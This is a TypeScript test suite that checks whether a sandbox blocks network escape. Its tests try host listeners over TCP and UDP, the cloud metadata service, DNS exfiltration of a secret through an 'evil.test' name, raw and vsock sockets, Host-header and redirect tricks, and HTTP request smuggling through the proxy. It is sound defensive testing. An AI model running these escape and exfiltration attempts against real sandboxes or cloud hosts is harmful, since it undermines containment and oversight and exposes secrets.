import { networkInterfaces } from "node:os";
import { describe, expect, test } from "vitest";
import { lookedUp, noWayLeadsBy, ports, secret, webPort } from "../support/escape-host.ts";

noWayLeadsBy(({ refusals, run, outputOf, python }) => {
  describe("the network:", () => {
    const connectTo = (targets: readonly string[], port: number) => `
import socket
for host in ${JSON.stringify(targets)}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for at in ${JSON.stringify([port])}:
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            s = socket.socket(family, kind); s.settimeout(1)
            try:
                s.connect((host, at)); s.send(b"hello")
                if kind == socket.SOCK_STREAM: print("reached", host, s.recv(100))
            except OSError: pass`;
    const everyAddress = () => [
      ...Object.values(networkInterfaces()).flatMap((found) => found?.map(({ address }) => address) ?? []),
      ...["127.0.0.1", "::1", "172.17.0.1", "0.0.0.0", "::"],
    ];

    test("a listener on any of the host's addresses, by TCP", async () => {
      expect(await python(connectTo(everyAddress(), ports.tcp))).toBe("");
    });

    test("a listener on any of the host's addresses, by UDP", async () => {
      expect(await python(connectTo(everyAddress(), ports.udp))).toBe("");
    });

    test("a listener on any of the host's addresses, through the guard", async () => {
      for (const address of everyAddress()) {
        const host = address.includes(":") ? `[${address}]` : address;
        const line = `curl -s --noproxy '' --proxytunnel --max-time 5 http://${host}:${ports.tcp}/; curl -s --noproxy '' --max-time 5 http://${host}:${ports.tcp}/`;
        expect(await outputOf(line)).not.toContain(secret);
      }
      expect(refusals.length).toBeGreaterThan(0);
    });

    test("a database, at its usual port and by an allowed name", async () => {
      const line = `for port in 5432 ${ports.tcp}; do curl -s -o /dev/null -w '%{http_connect} ' --proxytunnel http://allowed.test:$port/; done`;
      expect(await outputOf(line)).toBe("403 403");
      expect(refusals).toMatchObject([{ reason: "forbidden_port" }, { reason: "forbidden_port" }]);
    });

    test("the metadata service of a cloud", async () => {
      const line =
        "curl -s --max-time 3 --noproxy '*' http://169.254.169.254/; curl -s http://169.254.169.254/latest/; curl -s http://metadata.test/; curl -s 'http://[fd00:ec2::254]/'";
      expect((await outputOf(line)).match(/lets nothing through/g)).toHaveLength(3);
      expect(refusals.map(({ reason }) => reason)).toEqual(["not_allowed", "forbidden_address", "not_allowed"]);
    });

    test("questions to a name server, its own or the guard's", async () => {
      const direct = `
import socket
try: print(socket.getaddrinfo("${secret}.evil.test", 80))
except OSError: pass
for server in ("8.8.8.8", "127.0.0.11", "1.1.1.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01", (server, 53)); print("answer", s.recv(100))
    except OSError: pass`;
      expect(await python(direct)).toBe("");
      await run(`curl -s http://${secret}.evil.test/; curl -s https://${secret}.allowed.test/`);
      expect(lookedUp).toEqual([]);
    });

    test("a straight connection to an address of the Internet, of either family", async () => {
      const program = connectTo(["93.184.215.14", "2606:2800:21f:cb07:6820:80da:af6b:8b2c"], 443);
      expect(await python(program)).toBe("");
      expect(
        await outputOf(
          "cat /proc/net/route | tail -n +2; grep -v ' lo$' /proc/net/ipv6_route | grep -v '^0\\{32\\} 00'",
        ),
      ).toBe("");
    });

    test("packets of its own making, and other families of sockets", async () => {
      const program = `
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW)):
    try: socket.socket(family, kind, socket.IPPROTO_ICMP); print("opened", family)
    except OSError: pass`;
      expect(await python(program)).toBe("");
    });

    test("the machine's hypervisor, over its own kind of socket", async () => {
      const program = `
import socket
for cid in (0, 1, 2, 3):
    try:
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); s.connect((cid, 1024)); print("connected", cid)
    except OSError as e: pass`;
      expect(await python(program)).toBe("");
    });

    test("an allowed name that means a private address", async () => {
      expect(await outputOf("curl -s http://private.test/")).toContain("forbidden_address");
      expect(refusals).toMatchObject([{ host: "private.test", reason: "forbidden_address" }]);
    });

    test("a redirect from an allowed host to a forbidden one", async () => {
      expect(await outputOf(`curl -sL http://allowed.test:${webPort}/away`)).toContain("forbidden.test");
      expect(refusals).toMatchObject([{ host: "forbidden.test", reason: "not_allowed" }]);
    });

    test("a forbidden host behind an allowed name in the headers", async () => {
      const line = `curl -s -H 'Host: forbidden.test' http://allowed.test:${webPort}/; curl -s -H 'Host: allowed.test' http://forbidden.test:${webPort}/`;
      expect(await outputOf(line)).not.toContain("allowed allowed");
    });

    test("a second request smuggled into the first", async () => {
      const program = `
import os, socket, base64, urllib.parse
proxy = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port)); s.settimeout(5)
first = f"POST http://allowed.test:${webPort}/ HTTP/1.1\\r\\nHost: allowed.test:${webPort}\\r\\nProxy-Authorization: Basic {auth}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
s.sendall((first + "GET http://forbidden.test/ HTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n").encode())
try: print(s.recv(10000).decode())
except OSError: pass`;
      expect(await python(program)).toMatch(/^(HTTP\/1\.1 400|$)/);
    });
  });
});
